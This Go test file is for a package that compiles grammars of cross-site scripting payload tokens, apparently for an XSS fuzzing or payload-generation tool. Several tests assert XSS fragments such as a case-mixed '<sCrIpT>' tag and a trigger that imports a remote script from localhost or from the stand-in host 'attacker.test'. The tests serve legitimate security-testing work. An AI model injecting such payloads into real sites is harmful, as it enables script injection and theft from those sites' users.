// Copyright (C) 2025 Aleutian AI (jinterlante@aleutian.ai)
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU Affero General Public License as published by
// the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
// See the LICENSE.txt file for the full license text.
//
// NOTE: This work is subject to additional terms under AGPL v3 Section 7.
// See the NOTICE.txt file for details regarding AI system attribution.

package tokens

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func abcGrammar() Grammar {
	return Grammar{
		Name: "abc",
		Sets: []Set{
			{Name: "a", Values: []string{"a"}},
			{Name: "b", Values: []string{"b"}},
			{Name: "c", Values: []string{"c"}},
		},
		Transitions: map[string][]string{
			"a": {"b", "c"},
			"b": {},
		},
	}
}

func ids(toks []*Token) []int {
	out := make([]int, len(toks))
	for i, t := range toks {
		out[i] = t.ID
	}
	return out
}

func TestCompile_AssignsSequentialIDs(t *testing.T) {
	c, err := Compile(abcGrammar())
	require.NoError(t, err)

	assert.Equal(t, []int{1, 2, 3}, ids(c.Tokens))
	assert.Equal(t, RootID, c.Root.ID)
	assert.Equal(t, "", c.Root.Value)
	assert.Equal(t, []int{1, 2, 3}, ids(c.Root.Next()))
}

func TestCompile_LinksTransitions(t *testing.T) {
	c, err := Compile(abcGrammar())
	require.NoError(t, err)

	a := c.BySet["a"][0]
	b := c.BySet["b"][0]
	cc := c.BySet["c"][0]

	assert.Equal(t, []int{2, 3}, ids(a.Next()))
	assert.Equal(t, []int{1, 2, 3}, ids(b.Next()), "empty list is a wildcard")
	assert.Equal(t, []int{1, 2, 3}, ids(cc.Next()), "missing list is a wildcard")
}

func TestCompile_Deterministic(t *testing.T) {
	g := DefaultXSS(DefaultExploitURL)
	first, err := Compile(g)
	require.NoError(t, err)
	second, err := Compile(g)
	require.NoError(t, err)

	require.Equal(t, len(first.Tokens), len(second.Tokens))
	for i := range first.Tokens {
		assert.Equal(t, first.Tokens[i].ID, second.Tokens[i].ID)
		assert.Equal(t, first.Tokens[i].Value, second.Tokens[i].Value)
		assert.Equal(t, ids(first.Tokens[i].Next()), ids(second.Tokens[i].Next()))
	}
}

func TestCompile_ChainRederivesPayload(t *testing.T) {
	c, err := Compile(DefaultXSS(DefaultExploitURL))
	require.NoError(t, err)

	open := c.BySet["open"][0]
	html := c.BySet["html_tokens"][0]
	closeTok := c.BySet["close"][1]

	require.Contains(t, ids(open.Next()), html.ID)
	chain := []int{RootID, open.ID, html.ID, closeTok.ID}

	payload, err := c.Payload(chain)
	require.NoError(t, err)
	assert.Equal(t, "<sCrIpT>", payload)
}

func TestCompile_XSSTokenCount(t *testing.T) {
	c, err := Compile(DefaultXSS(DefaultExploitURL))
	require.NoError(t, err)

	assert.Len(t, c.Tokens, 62)
	assert.Equal(t, 1, c.BySet["inline"][0].ID)
	assert.Equal(t, `import("http://localhost:8080/xss.js")`, c.BySet["trigger_exploits"][0].Value)

	// html_break_only_tokens may only be followed by close tokens.
	for _, next := range c.BySet["html_break_only_tokens"][0].Next() {
		assert.Equal(t, "close", next.Set)
	}
}

func TestNoGrammar_OpensAllTransitions(t *testing.T) {
	c, err := Compile(NoGrammar(DefaultXSS(DefaultExploitURL)))
	require.NoError(t, err)

	for _, tok := range c.Tokens {
		assert.Len(t, tok.Next(), len(c.Tokens))
	}
}

func TestCompile_Errors(t *testing.T) {
	_, err := Compile(Grammar{})
	assert.ErrorIs(t, err, ErrEmptyGrammar)

	dup := abcGrammar()
	dup.Sets = append(dup.Sets, Set{Name: "a", Values: []string{"z"}})
	_, err = Compile(dup)
	assert.ErrorIs(t, err, ErrDuplicateSet)

	unknown := abcGrammar()
	unknown.Transitions["c"] = []string{"missing"}
	_, err = Compile(unknown)
	assert.ErrorIs(t, err, ErrUnknownSet)
}

func TestCompile_IgnoresTransitionsOfUndeclaredSets(t *testing.T) {
	g := abcGrammar()
	g.Transitions["html_breaker"] = nil
	_, err := Compile(g)
	assert.NoError(t, err)
}

func TestCompiled_Lookup(t *testing.T) {
	c, err := Compile(abcGrammar())
	require.NoError(t, err)

	tok, ok := c.Lookup(2)
	require.True(t, ok)
	assert.Equal(t, "b", tok.Value)

	_, ok = c.Lookup(4)
	assert.False(t, ok)

	_, err = c.Payload([]int{1, 9})
	assert.Error(t, err)
}

func TestCompiled_Describe(t *testing.T) {
	c, err := Compile(abcGrammar())
	require.NoError(t, err)

	desc := c.Describe()
	require.Len(t, desc, 3)
	assert.Equal(t, SetSummary{Name: "a", Tokens: 1, Successors: 2, Follows: []string{"b", "c"}}, desc[0])
	assert.Equal(t, 3, desc[1].Successors)
}

func TestBuiltin(t *testing.T) {
	g, err := Builtin("xss")
	require.NoError(t, err)
	assert.Equal(t, GrammarXSS, g.Name)

	g, err = Builtin("XSS_TOKENS_NO_GRAMMAR")
	require.NoError(t, err)
	assert.Empty(t, g.Transitions)

	_, err = Builtin("sql")
	assert.ErrorIs(t, err, ErrUnknownGrammar)
}

func TestExploitURL_FromEnv(t *testing.T) {
	t.Setenv("REMOTE_SCRIPT_URL", "https://attacker.test/x.js")
	g, err := Builtin("xss")
	require.NoError(t, err)
	assert.Contains(t, g.Sets[1].Values[0], "https://attacker.test/x.js")
}
